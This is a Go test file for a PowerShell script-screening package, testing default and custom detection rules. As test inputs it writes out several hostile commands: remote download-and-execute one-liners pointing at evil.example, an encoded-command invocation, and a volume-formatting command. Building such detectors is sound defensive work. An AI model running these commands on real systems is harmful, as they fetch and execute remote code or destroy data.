package safety

import (
	"os"
	"path/filepath"
	"testing"
)

func TestDefaultScreenBlocksDownloadAndInvoke(t *testing.T) {
	screen, err := NewScreen()
	if err != nil {
		t.Fatalf("failed to build default screen: %v", err)
	}

	bad := `iex (New-Object Net.WebClient).DownloadString('http://evil.example/payload.ps1')`
	violations := screen.Check(bad)
	if len(violations) == 0 {
		t.Fatal("expected download-and-invoke to be flagged")
	}
	if violations[0].Rule != "download-and-invoke" {
		t.Errorf("unexpected rule: %+v", violations[0])
	}
}

func TestDefaultScreenBlocksEncodedCommand(t *testing.T) {
	screen, err := NewScreen()
	if err != nil {
		t.Fatalf("failed to build default screen: %v", err)
	}

	bad := `powershell.exe -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuAA==`
	if len(screen.Check(bad)) == 0 {
		t.Error("expected encoded command to be flagged")
	}
}

func TestDefaultScreenAllowsOrdinaryScripts(t *testing.T) {
	screen, err := NewScreen()
	if err != nil {
		t.Fatalf("failed to build default screen: %v", err)
	}

	good := `
param([string]$Path = ".")
Get-ChildItem -Path $Path -Recurse |
    Where-Object { $_.Length -gt 10MB } |
    Sort-Object Length -Descending |
    Select-Object FullName, Length
`
	if violations := screen.Check(good); len(violations) != 0 {
		t.Errorf("ordinary script flagged: %+v", violations)
	}
}

func TestScreenFromFileReplacesDefaults(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rules.yaml")
	rules := `
rules:
  - name: no-format
    pattern: '(?i)Format-Volume'
    reason: volume formatting is not allowed
`
	if err := os.WriteFile(path, []byte(rules), 0644); err != nil {
		t.Fatal(err)
	}

	screen, err := NewScreenFromFile(path)
	if err != nil {
		t.Fatalf("failed to load rules file: %v", err)
	}
	if screen.RuleCount() != 1 {
		t.Errorf("expected 1 rule, got %d", screen.RuleCount())
	}
	if len(screen.Check("Format-Volume -DriveLetter C")) == 0 {
		t.Error("expected custom rule to match")
	}
	// Default rules no longer apply
	if len(screen.Check("iex (iwr http://x).Content")) != 0 {
		t.Error("default rules should be replaced, not merged")
	}
}

func TestInvalidRuleFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rules.yaml")
	if err := os.WriteFile(path, []byte(`rules: [{name: bad, pattern: "("}]`), 0644); err != nil {
		t.Fatal(err)
	}
	if _, err := NewScreenFromFile(path); err == nil {
		t.Error("expected error for invalid regex")
	}

	if err := os.WriteFile(path, []byte(`rules: []`), 0644); err != nil {
		t.Fatal(err)
	}
	if _, err := NewScreenFromFile(path); err == nil {
		t.Error("expected error for empty rule set")
	}
}
